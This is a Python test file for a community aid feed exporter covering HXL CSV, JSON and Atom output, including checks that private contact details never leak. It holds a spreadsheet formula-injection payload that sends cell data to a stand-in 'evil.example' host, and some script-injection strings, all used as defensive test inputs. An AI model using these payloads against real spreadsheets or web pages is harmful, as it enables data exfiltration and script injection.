"""Regional feed exports: HXL CSV, JSON and Atom carry what they claim and nothing private."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from dataclasses import fields, replace
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest

from node.domain.exports import ATOM_NS, HXL_COLUMNS, ExportItem, to_atom, to_hxl_csv, to_json
from schemas.taxonomy import CATEGORIES
from schemas.vocab import TAXONOMY_NS, Category, LocationPrecision, Purpose, Unit, Urgency

A = f"{{{ATOM_NS}}}"
NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
HXL_TAG = re.compile(r"#[a-z][a-z0-9_]*(\+[a-z][a-z0-9_]*)*")
TRICKY = [
    'Rice, 5 kg "basmati"',
    "two\nlines\r\nand a CRLF",
    "<b>bold</b> & <script>alert('x')</script>",
    "tab\tsemicolon; comma, apostrophe's",
    "ünïcødé — ✓ 食べ物",
]


def _item(**changes: Any) -> ExportItem:
    base = ExportItem(
        id="https://food.example/items/1",
        url="https://food.example/offers/1?lang=en&view=full",
        purpose=Purpose.OFFER,
        title="Surplus rice",
        summary="Sacks of rice, collect from the hall.",
        category=Category.FOOD,
        item_spec="basmati, 5 kg sacks",
        quantity=10,
        available=7.5,
        unit=Unit.KILOGRAM,
        urgency=Urgency.ANYTIME,
        latitude=-33.86451,
        longitude=151.20738,
        radius_km=0.707,
        area="Inner West",
        location_precision=LocationPrecision.GRID_1KM,
        begins_at=NOW,
        ends_at=NOW + timedelta(days=3),
        origin_name="Inner West Food Bank",
        origin_actor="https://food.example/actor",
        relayed_by="https://coalition.example/actor",
        updated_at=NOW + timedelta(hours=1),
    )
    return replace(base, **changes)


def _csv(items: list[ExportItem]) -> tuple[list[str], list[str], list[dict[str, str]]]:
    headers, tags, *rows = list(csv.reader(io.StringIO(to_hxl_csv(items), newline="")))
    return headers, tags, [dict(zip(tags, row, strict=True)) for row in rows]


def _atom(items: list[ExportItem]) -> ET.Element:
    text = to_atom(
        items,
        feed_id="https://coalition.example/feeds/offers",
        title="Coalition offers",
        updated=NOW,
        self_url="https://coalition.example/feeds/offers.atom",
    )
    return ET.fromstring(text)  # noqa: S314 - our own output


def _outputs(items: list[ExportItem]) -> list[str]:
    return [
        to_hxl_csv(items),
        to_json(items, generated=NOW),
        to_atom(items, feed_id="urn:x", title="t", updated=NOW, self_url="https://c.example/f"),
    ]


def test_hxl_hashtag_row_is_second_and_well_formed() -> None:
    headers, tags, rows = _csv([_item()])
    assert headers == [header for header, _, _ in HXL_COLUMNS]
    assert not any(h.startswith("#") for h in headers), "only the second row is hashtags"
    assert all(HXL_TAG.fullmatch(tag) for tag in tags), tags
    assert len(set(tags)) == len(tags)
    assert {
        "#sector",
        "#item+type",
        "#item+name",
        "#indicator+purpose",
        "#value",
        "#item+unit",
        "#loc+name",
        "#geo+lat",
        "#geo+lon",
        "#date+end",
        "#org+name",
        "#meta+url",
        "#status+urgency",
    } <= set(tags)
    assert len(rows) == 1


def test_hxl_rows_carry_the_item() -> None:
    (row,) = _csv([_item()])[2]
    assert row["#meta+id"] == "https://food.example/items/1"
    assert row["#meta+url"] == "https://food.example/offers/1?lang=en&view=full"
    assert row["#indicator+purpose"] == "offer"
    assert row["#sector"] == "Food Security"
    assert row["#item+type"] == "food"
    assert row["#item+name"] == "Surplus rice"
    assert row["#item+spec"] == "basmati, 5 kg sacks"
    assert row["#description"] == "Sacks of rice, collect from the hall."
    assert (row["#value"], row["#value+total"], row["#item+unit"]) == ("7.5", "10", "kilogram")
    assert row["#status+urgency"] == "anytime"
    assert row["#loc+name"] == "Inner West"
    assert (row["#geo+lat"], row["#geo+lon"]) == ("-33.86451", "151.20738")
    assert (row["#geo+radius"], row["#geo+precision"]) == ("0.707", "grid-1km")
    assert row["#date+start"] == "2026-03-01T12:00:00Z"
    assert row["#date+end"] == "2026-03-04T12:00:00Z"
    assert row["#date+updated"] == "2026-03-01T13:00:00Z"
    assert row["#org+name"] == "Inner West Food Bank"
    assert row["#org+url"] == "https://food.example/actor"
    assert row["#org+relay+url"] == "https://coalition.example/actor"


def test_every_category_exports_its_cluster() -> None:
    items = [_item(id=f"https://f.example/{i.code}", category=i.code) for i in CATEGORIES]
    rows = _csv(items)[2]
    assert [(r["#item+type"], r["#sector"]) for r in rows] == [
        (info.code.value, info.cluster) for info in CATEGORIES
    ]


def test_items_without_location_have_empty_geo_cells() -> None:
    bare = _item(
        latitude=None,
        longitude=None,
        radius_km=None,
        area=None,
        location_precision=None,
        ends_at=None,
        relayed_by=None,
        quantity=None,
        available=None,
        unit=None,
    )
    (row,) = _csv([bare])[2]
    for tag in ("#geo+lat", "#geo+lon", "#geo+radius", "#geo+precision", "#loc+name"):
        assert row[tag] == "", tag
    assert row["#date+end"] == row["#org+relay+url"] == row["#value"] == ""
    (record,) = json.loads(to_json([bare], generated=NOW))["items"]
    assert record["latitude"] is record["longitude"] is record["ends_at"] is None


def test_coordinates_never_exceed_five_decimals() -> None:
    sharp = _item(latitude=51.1234567, longitude=-0.9876543)
    (row,) = _csv([sharp])[2]
    assert (row["#geo+lat"], row["#geo+lon"]) == ("51.12346", "-0.98765")
    (record,) = json.loads(to_json([sharp], generated=NOW))["items"]
    assert (record["latitude"], record["longitude"]) == (51.12346, -0.98765)
    for output in _outputs([sharp]):
        assert "1234567" not in output and "9876543" not in output


@pytest.mark.parametrize("text", TRICKY)
def test_awkward_text_round_trips_in_every_format(text: str) -> None:
    item = _item(title=text, summary=text, item_spec=text, area=text, origin_name=text)
    (row,) = _csv([item])[2]
    for tag in ("#item+name", "#description", "#item+spec", "#loc+name", "#org+name"):
        assert row[tag] == text, tag
    (record,) = json.loads(to_json([item], generated=NOW))["items"]
    assert record["title"] == record["summary"] == record["origin_name"] == text
    entry = _atom([item]).find(f"{A}entry")
    assert entry is not None
    xml_text = text.replace("\r\n", "\n")  # XML parsers normalise line ends
    assert entry.findtext(f"{A}title") == entry.findtext(f"{A}summary") == xml_text
    assert entry.findtext(f"{A}author/{A}name") == xml_text


def test_csv_neutralises_spreadsheet_formulas_only() -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    item = _item(title=formula, summary="+1 rice", origin_name="@group", latitude=-1.5)
    (row,) = _csv([item])[2]
    assert row["#item+name"] == "'" + formula
    assert (row["#description"], row["#org+name"]) == ("'+1 rice", "'@group")
    assert row["#geo+lat"] == "-1.50000", "numbers are never prefixed"
    (record,) = json.loads(to_json([item], generated=NOW))["items"]
    assert record["title"] == formula, "JSON keeps the text as it is"


def test_json_round_trips_every_field() -> None:
    items = [_item(), _item(id="https://food.example/items/2", purpose=Purpose.REQUEST)]
    document = json.loads(to_json(items, generated=NOW))
    assert document["generated"] == "2026-03-01T12:00:00Z"
    rebuilt = []
    for record in document["items"]:
        for key in ("begins_at", "ends_at", "updated_at"):
            record[key] = datetime.fromisoformat(record[key].replace("Z", "+00:00"))
        record["purpose"] = Purpose(record["purpose"])
        record["category"] = Category(record["category"])
        rebuilt.append(ExportItem(**record))
    assert rebuilt == items


def test_dates_are_utc_whatever_the_input_offset() -> None:
    plus_two = timezone(timedelta(hours=2))
    item = _item(ends_at=datetime(2026, 3, 5, 14, 0, tzinfo=plus_two))
    assert _csv([item])[2][0]["#date+end"] == "2026-03-05T12:00:00Z"
    (record,) = json.loads(to_json([item], generated=NOW))["items"]
    assert record["ends_at"] == "2026-03-05T12:00:00Z"


def test_atom_feed_is_rfc4287() -> None:
    items = [_item(), _item(id="https://water.example/items/9", category=Category.WATER)]
    feed = _atom(items)
    assert feed.tag == f"{A}feed"
    assert feed.findtext(f"{A}id") == "https://coalition.example/feeds/offers"
    assert feed.findtext(f"{A}title") == "Coalition offers"
    assert feed.findtext(f"{A}updated") == "2026-03-01T12:00:00Z"
    assert feed.findtext(f"{A}author/{A}name") == "Coalition offers"
    (self_link,) = feed.findall(f"{A}link")
    assert self_link.attrib == {
        "rel": "self",
        "type": "application/atom+xml",
        "href": "https://coalition.example/feeds/offers.atom",
    }
    entries = feed.findall(f"{A}entry")
    assert [e.findtext(f"{A}id") for e in entries] == [i.id for i in items]
    for entry, item in zip(entries, items, strict=True):
        assert entry.findtext(f"{A}title") == item.title
        updated = entry.findtext(f"{A}updated") or ""
        assert datetime.fromisoformat(updated.replace("Z", "+00:00")) == item.updated_at
        link = entry.find(f"{A}link")
        assert link is not None and link.attrib == {"rel": "alternate", "href": item.url}
        summary = entry.find(f"{A}summary")
        assert summary is not None and summary.get("type") == "text"
        assert summary.text == item.summary
        category = entry.find(f"{A}category")
        assert category is not None
        assert (category.get("term"), category.get("scheme")) == (item.category, TAXONOMY_NS)
        assert entry.findtext(f"{A}author/{A}uri") == item.origin_actor


def test_atom_escapes_markup_and_drops_characters_xml_cannot_carry() -> None:
    item = _item(title="<script>x</script> & co", summary="bell\x07 nul\x00 ok")
    text = _outputs([item])[2]
    assert "<script>" not in text and "&lt;script&gt;" in text
    entry = ET.fromstring(text).find(f"{A}entry")  # noqa: S314 - our own output
    assert entry is not None
    assert entry.findtext(f"{A}title") == "<script>x</script> & co"
    assert entry.findtext(f"{A}summary") == "bell nul ok"


def test_empty_exports_are_still_valid() -> None:
    feed = _atom([])
    assert feed.find(f"{A}entry") is None
    assert feed.findtext(f"{A}author/{A}name"), "a feed without entries needs an author"
    assert _csv([])[2] == []
    assert json.loads(to_json([], generated=NOW))["items"] == []


def test_private_details_never_reach_an_export() -> None:
    items = [_item(), _item(id="https://food.example/items/2", purpose=Purpose.REQUEST)]
    private = {  # the local-only record beside each item, as PrivateDetails holds it
        items[0].id: {"contact": "+44 7700 900123", "notes": "Knock twice, flat 3B"},
        items[1].id: {"contact": "jo.bloggs@example.org", "notes": "Jo Bloggs, diabetic"},
    }
    secrets = [value for details in private.values() for value in details.values()]
    for output in _outputs(items):
        for secret in secrets:
            assert secret not in output
        assert "7700" not in output and "bloggs" not in output.lower()
    with pytest.raises(TypeError):
        ExportItem(**{**_item().__dict__, "contact": secrets[0]})


def test_export_item_has_no_field_for_personal_data() -> None:
    forbidden = (
        "contact",
        "note",
        "email",
        "mail",
        "phone",
        "mobile",
        "address",
        "person",
        "private",
        "requester",
        "recipient",
        "comment",
    )
    names = [f.name for f in fields(ExportItem)]
    assert "updated_at" in names, "introspection sees the fields"
    leaks = [name for name in names for word in forbidden if word in name.lower()]
    assert leaks == [], f"ExportItem must not carry personal data: {leaks}"
